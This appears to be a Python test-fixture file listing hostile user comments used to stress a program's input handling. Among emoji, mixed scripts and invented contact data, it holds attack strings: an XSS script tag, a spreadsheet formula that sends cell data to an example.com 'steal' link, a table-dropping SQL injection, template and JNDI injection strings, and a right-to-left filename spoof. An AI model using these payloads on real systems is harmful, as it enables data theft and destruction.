"""Comments that try a program's patience: markup, formulas, links, direction marks, emoji, personal data, line breaks.

The addresses are under example.com and the numbers are invented: whoever prints a comment must mask them.
"""

from __future__ import annotations

HOSTILE = (
    "<script>alert('novin')</script> the basket is empty again",
    '=HYPERLINK("https://example.com/steal?x="&A1,"click here")',
    "+1-1 stars, if I could",
    "-5",
    "@everyone please read this before you order",
    "=1+1",
    "see https://example.com/review/123?id=<b>42</b>&lang=en for the whole story",
    "[claim your prize](https://example.com/win) <https://example.com|here> *bold* _x_ `code`",
    "the invoice is called invoice\u202efdp.exe, is that right?",
    "\u2067right to left and never closed",
    "😡😡😡 where is my sofa??? 🛋️",
    "👍🏽👩‍👩‍👧‍👦 خیلی خوب بود 🙏",
    "My name is Nilufar Example, write to nilufar.example@example.com or call +98 912 555 0100.",
    "با من تماس بگیرید: ۰۹۱۲۵۵۵۰۱۲۳ یا maryam@example.com",
    "โทรกลับด้วย 081-555-0199 หรืออีเมล somchai.example@example.com",
    "card 4111 1111 1111 1111 was charged twice",
    'He said "never again", and; I agree, completely\tso.',
    "First line\nsecond line, with a comma\n\nand a third after an empty one",
    "' OR 1=1; DROP TABLE responses; --",
    "{{ 7*7 }} {% raw %} ${jndi:x} %s %d",
    "كيفيت خيلي پايين بود",
    "ราคา ۱۲۰۰ ฿ กับ ١٢٠٠ ไม่ตรงกัน",
    "a" * 400,
    "ok\u200b\u200d\u00ad fine",
    "N/A",
    "NULL",
)
